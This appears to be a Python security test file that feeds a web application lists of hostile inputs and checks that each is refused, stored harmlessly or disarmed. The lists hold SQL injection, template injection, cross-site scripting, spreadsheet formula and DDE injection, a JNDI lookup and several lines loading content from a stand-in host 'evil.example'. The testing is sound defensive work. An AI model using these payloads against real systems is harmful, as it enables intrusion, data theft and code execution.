"""Words that are meant to be run: by the database, a template, a browser, a spreadsheet, a regular
expression."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

from tests.hostile.listed import IGNORED, KEPT, NOTHING, Hostile, shown

SQL = (
    "' OR '1'='1",
    "'; DROP TABLE feedback; --",
    '" OR ""="',
    "1; UPDATE useraccount SET roles='[]'",
    "' UNION SELECT password_hash FROM useraccount --",
    "%' ESCAPE '\\' OR 1=1 --",
    "') OR pg_sleep(5) --",
    "'||(SELECT current_user)||'",
    "\\'; --",
    "%0a' OR 1=1",
    "${jndi:ldap://evil.example/a}",
    "%%%%____",
)
TEMPLATES = (
    "{{ 7*191 }}",
    "${7*191}",
    "<%= 7*191 %>",
    "#{7*191}",
    "{% print 7*191 %}",
    "{{ config.items() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "%(7)s {0} {0.__class__}",
    "@(7*191)",
    "[[${7*191}]]",
)
SCRIPTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "'\"><script src=https://evil.example/x.js></script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<a href="javascript:alert(1)">read on</a>',
    "<body onload=alert(1)>",
    "<math><mtext></table><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><button>Go on</button></form>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "＜script＞alert(1)＜/script＞",
)
FORMULAS = (
    '=HYPERLINK("https://evil.example","open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=IMPORTXML("https://evil.example","//a")',
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    " =1+1",
    '=DDE("cmd";"/C calc";"a")',
)
# Each is long enough that a pattern which tries all ways would not end today.
SLOW = {
    "a@ 20,000 times": "a@" * 20_000,
    "a. 20,000 times, no top level": "a." * 20_000 + "@",
    "1- 20,000 times": "1-" * 20_000 + "x",
    "( 30,000 times": "(" * 30_000,
    "blanks 50,000 times, then a letter": " " * 50_000 + "x",
    "< 30,000 times": "<" * 30_000,
    "line ends 30,000 times": "words" + "\n" * 30_000 + "x",
    "> 30,000 times, as quoted mails": "> " * 30_000,
    "。 30,000 times": "。" * 30_000,
    "https:// 10,000 times": "https://" * 10_000,
    "株式会社 10,000 times": "株式会社" * 10_000,
    "&amp; 20,000 times": "&amp;" * 20_000,
}


def voice(text: Any, **fields: Any) -> dict[str, Any]:
    return {"json": {"text": text, "source": "hostile", "language": "en", **fields}}


def words() -> Iterator[Hostile]:
    kind = "Words for the database"
    for text in SQL:
        search = f"/api/customers?q={quote(text)}"
        yield Hostile(kind, shown(text), "GET", search, 200, NOTHING, holds=_is_empty)
    for text in SQL[:6]:
        for path in ("/api/themes/{}/quotes", "/customers/{}", "/api/imports/{}/refused.csv"):
            status = 404 if path == "/customers/{}" else 422
            yield Hostile(kind, shown(text), "GET", path.format(quote(text, safe="")), status)
    for name in ("order", "sort", "by", "kind"):
        status = 422 if name in ("sort", "kind") else 200
        text = "impact; DROP TABLE theme"
        yield Hostile(
            kind, f"{name}={text}", "GET", f"/api/themes?{name}={quote(text)}", status,
            IGNORED if status == 200 else "refused, nothing is changed",
        )  # fmt: skip
    kind = "Words for a template"
    for text in TEMPLATES:
        yield Hostile(
            kind, shown(text), "POST", "/api/feedback", 201, KEPT, voice(f"Words {text} end"),
            holds=lambda place: "1337" not in place.page("/voices?all=1"),
        )  # fmt: skip
    kind = "Words for a browser"
    for number, text in enumerate(SCRIPTS):
        yield Hostile(
            kind, shown(text), "POST", "/api/feedback", 201, KEPT,
            voice(f"Page {number} says {text} and stops", title=text, tags=[text], product=text),
            holds=lambda place, text=text: text not in place.page("/voices?all=1"),
        )  # fmt: skip
    for text in SCRIPTS[:4]:
        yield from _named(kind, text)
    yield Hostile(
        kind, "javascript:alert(1)", "POST", "/api/feedback", 422,
        send=voice("The address runs", url="javascript:alert(1)"),
    )  # fmt: skip
    kind = "Formulas for a spreadsheet"
    for text in FORMULAS:
        yield Hostile(
            kind, shown(text), "POST", "/api/backlog", 201,
            "kept as words, disarmed on its way into a spreadsheet",
            {"json": {"title": text, "themes": {"{theme_id}": 0.5}, "by": "x"}},
            holds=lambda place: place.is_disarmed(),
        )  # fmt: skip
    kind = "Words for a slow pattern"
    for short, text in SLOW.items():
        yield Hostile(
            kind, short, "POST", "/api/feedback", 201, "read to its end", voice(text + "a")
        )


def _named(kind: str, text: str) -> Iterator[Hostile]:
    """The same words as the name of something that pages show."""
    for method, path, status, body, page in (
        ("PATCH", "/api/customers/{customer_id}", 200, {"industry": text}, "/customers/{customer_id}"),
        ("PUT", "/api/departments/hostile", 200, {"name_ja": text, "name_en": text}, "/departments"),
        ("PATCH", "/api/themes/{theme_id}", 200, {"title_en": text}, "/themes/{theme_id}"),
        ("POST", "/api/goals", 201, {"name": text, "metric": "own", "target": 1}, "/numbers"),
        ("POST", "/api/saved-views", 201, {"page": "/themes", "name": text, "query": ""}, "/themes"),
    ):  # fmt: skip
        yield Hostile(
            kind, f"{shown(text)} as a name", method, path, status, KEPT, {"json": body},
            holds=lambda place, page=page: text not in place.page(page),
        )  # fmt: skip


def _is_empty(place: Any) -> bool:
    return bool(place.answer.json() == [])
